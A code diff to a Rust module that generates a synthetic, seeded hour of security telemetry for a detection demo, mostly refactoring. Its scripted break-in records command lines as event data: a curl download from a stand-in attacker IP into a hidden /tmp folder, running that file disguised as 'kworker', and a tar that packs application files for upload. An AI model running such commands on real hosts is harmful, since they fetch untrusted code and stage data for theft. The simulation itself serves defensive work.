@@ -1,8 +1,11 @@
 //! The story of the demo: an hour of three collectors, most of it harmless.
 //!
-//! Somebody guesses passwords at `web-1` until one fits, starts a program from a temporary folder and
-//! uploads what it has packed. Around it people work, mistype passwords and make backups, and a
-//! scanner knocks at another host without getting in. The same seed gives the same story.
+//! Owns what happens and when; how an event is written is `collectors`' job. An attacker guesses
+//! passwords at `web-1` until one fits, starts a program from a temporary folder and uploads what
+//! it has packed. Around it people work, mistype passwords and make backups, and a scanner knocks
+//! at another host without getting in.
+//! Invariant: the same seed gives the same story, event for event, since README's picture and the
+//! tests compare it.
 
 use larum_event::Timestamp;
 use serde_json::Value;
@@ -50,7 +53,7 @@ const PROGRAMS: [(&str, &str); 8] = [
 ];
 const INSIDE: [&str; 4] = ["10.0.0.5", "10.0.0.12", "10.0.3.7", "192.168.7.20"];
 
-/// The story as it is told.
+/// The story, event by event.
 pub struct DemoStory {
     /// Events in the order of time.
     pub events: Vec<(Timestamp, Value)>,
@@ -60,7 +63,7 @@ pub struct DemoStory {
 
 /// The story of a seed.
 pub fn build_story(seed: u64) -> DemoStory {
-    let mut telling = StoryBuilder {
+    let mut builder = StoryBuilder {
         random: SeededRandom::new(seed),
         planned: Vec::new(),
         contacts: 0,
@@ -69,19 +72,32 @@ pub fn build_story(seed: u64) -> DemoStory {
     };
     let mut at = 0;
     while at < HOUR {
-        telling.plan_work_session(at);
-        at += telling.random.number_between(8 * SECOND, 24 * SECOND);
+        builder.plan_work_session(at);
+        at += builder.random.number_between(8 * SECOND, 24 * SECOND);
     }
     for minute in 0..60 {
-        telling.plan_scheduled_jobs(minute * MINUTE + 30 * SECOND);
+        builder.plan_scheduled_jobs(minute * MINUTE + 30 * SECOND);
     }
-    telling.plan_scanner(11 * MINUTE);
-    let incident = telling.plan_incident(24 * MINUTE);
+    builder.plan_scanner(11 * MINUTE);
+    let incident = builder.plan_incident(24 * MINUTE);
     let start = Timestamp::parse(START).expect("the start is a time");
     DemoStory {
-        events: assign_times(start, telling.planned),
+        events: assign_times(start, builder.planned),
         incident,
     }
+}
+
+/// A person at a host.
+#[derive(Clone, Copy)]
+struct DemoUser<'a> {
+    host: &'a str,
+    user: &'a str,
+}
+
+/// The process that opens a connection, and its host.
+struct FlowOrigin<'a> {
+    step: &'a WorkflowStep,
+    host: &'a str,
 }
 
 struct StoryBuilder {
@@ -93,7 +109,7 @@ struct StoryBuilder {
 }
 
 impl StoryBuilder {
-    /// Somebody logs in, sometimes at the second try, works for a while and leaves.
+    /// A person logs in, sometimes at the second try, works for a while and leaves.
     fn plan_work_session(&mut self, begin: u64) {
         let user = *self.random.pick_one(&PEOPLE);
         let host = *self.random.pick_one(&HOSTS);
@@ -123,7 +139,7 @@ impl StoryBuilder {
         }
         self.plan_event(at, login.to_event());
         let opened = self.open_session(&contact, host, user, at + 50);
-        let shell = self.start_shell(&opened, (host, user), at + 90);
+        let shell = self.start_shell(&opened, DemoUser { host, user }, at + 90);
         at += 90;
         for _ in 0..self.random.number_between(3, 9) {
             at += self.random.number_between(SECOND, 40 * SECOND);
@@ -141,9 +157,11 @@ impl StoryBuilder {
             if self.random.chance(45) {
                 let address = *self.random.pick_one(&INSIDE);
                 let (bytes_out, port) = (self.random.number_between(300, 90_000), 443);
-                self.plan_flow((&step, host), (address, port), bytes_out, at + 700);
+                let process = FlowOrigin { step: &step, host };
+                self.plan_flow(process, (address, port), bytes_out, at + 700);
             }
         }
+        // The session closes after its last process has started, so that its tree is complete.
         let end = at + self.random.number_between(5 * SECOND, 60 * SECOND);
         self.plan_event(end, session_event(&opened, host, user, false));
     }
@@ -164,7 +182,8 @@ impl StoryBuilder {
             let jitter = self.random.number_between(0, 900);
             self.plan_event(at + jitter, process.to_event());
             if host == "db-1" && (at / MINUTE).is_multiple_of(15) {
-                self.plan_flow((&step, host), (BACKUP, 22), 80_000_000, at + 20 * SECOND);
+                let process = FlowOrigin { step: &step, host };
+                self.plan_flow(process, (BACKUP, 22), 80_000_000, at + 20 * SECOND);
             }
         }
     }
@@ -188,6 +207,8 @@ impl StoryBuilder {
 
     /// The break-in; the answer is its root.
     fn plan_incident(&mut self, begin: u64) -> String {
+        // Numbers are drawn in the order of the story. Drawing one earlier would change every later
+        // one, and with them the picture in README.
         let contact = self.next_contact();
         let user = "deploy";
         let mut login = LoginAttempt {
@@ -208,28 +229,32 @@ impl StoryBuilder {
         login.outcome = "success";
         self.plan_event(at, login.to_event());
         let opened = self.open_session(&contact, VICTIM, user, at + 60);
-        let shell = self.start_shell(&opened, (VICTIM, user), at + 110);
+        let shell = self.start_shell(&opened, DemoUser { host: VICTIM, user }, at + 110);
 
         let step = self.next_process(&shell);
         let download = "curl -so /tmp/.x/kworker http://203.0.113.66/k";
         self.plan_process(
             &step,
-            ("/usr/bin/curl", download, "/bin/bash"),
+            ["/usr/bin/curl", download, "/bin/bash"],
             at + 40 * SECOND,
         );
-        self.plan_flow((&step, VICTIM), (ATTACKER, 80), 420, at + 41 * SECOND);
+        let process = FlowOrigin {
+            step: &step,
+            host: VICTIM,
+        };
+        self.plan_flow(process, (ATTACKER, 80), 420, at + 41 * SECOND);
 
         let worker = self.next_process(&shell);
         let image = "/tmp/.x/kworker";
         self.plan_process(
             &worker,
-            (image, "/tmp/.x/kworker -q", "/bin/bash"),
+            [image, "/tmp/.x/kworker -q", "/bin/bash"],
             at + 75 * SECOND,
         );
 
         let step = self.next_process(&worker);
         let pack = "tar czf /tmp/.x/s.tgz /srv/app /etc/app";
-        self.plan_process(&step, ("/bin/tar", pack, image), at + 3 * MINUTE);
+        self.plan_process(&step, ["/bin/tar", pack, image], at + 3 * MINUTE);
         self.plan_upload(&worker, at + 6 * MINUTE);
         self.plan_event(at + 8 * MINUTE, session_event(&opened, VICTIM, user, false));
         contact.id
@@ -239,7 +264,7 @@ impl StoryBuilder {
     fn plan_process(
         &mut self,
         step: &WorkflowStep,
-        (image, command, parent_image): (&str, &str, &str),
+        [image, command, parent_image]: [&str; 3],
         at: u64,
     ) {
         let process = ProcessStart {
@@ -270,7 +295,7 @@ impl StoryBuilder {
     fn start_shell(
         &mut self,
         opened: &WorkflowStep,
-        (host, user): (&str, &str),
+        DemoUser { host, user }: DemoUser<'_>,
         at: u64,
     ) -> WorkflowStep {
         let step = self.next_process(opened);
@@ -287,18 +312,14 @@ impl StoryBuilder {
     }
 
     /// A connection that a process on a host opened, to an address and port.
-    fn plan_flow(
-        &mut self,
-        (process, host): (&WorkflowStep, &str),
-        to: (&str, u16),
-        bytes_out: u64,
-        at: u64,
-    ) {
+    fn plan_flow(&mut self, process: FlowOrigin<'_>, to: (&str, u16), bytes_out: u64, at: u64) {
         self.flows += 1;
-        let step = process.child_step(format!("flow-{}", self.flows), "network");
+        let step = process
+            .step
+            .child_step(format!("flow-{}", self.flows), "network");
         let flow = NetworkFlow {
             step: &step,
-            host,
+            host: process.host,
             address: to.0,
             port: to.1,
             bytes_out,
@@ -345,16 +366,16 @@ mod tests {
 
     #[test]
     fn a_story_is_an_hour_of_thousands_of_events_in_order_and_its_seed_decides_it() {
-        let told = build_story(7);
-        assert!(told.events.len() > 2_000, "{}", told.events.len());
-        assert!(told.events.is_sorted_by_key(|(time, _)| *time));
+        let story = build_story(7);
+        assert!(story.events.len() > 2_000, "{}", story.events.len());
+        assert!(story.events.is_sorted_by_key(|(time, _)| *time));
         let (first, last) = (
-            told.events.first().unwrap().0,
-            told.events.last().unwrap().0,
+            story.events.first().unwrap().0,
+            story.events.last().unwrap().0,
         );
         let minutes = last.duration_since(first).as_nanos() / 60_000_000_000;
         assert!((59..75).contains(&minutes), "{minutes} minutes");
-        assert_eq!(told.events, build_story(7).events);
-        assert_ne!(told.events, build_story(8).events);
+        assert_eq!(story.events, build_story(7).events);
+        assert_ne!(story.events, build_story(8).events);
     }
 }
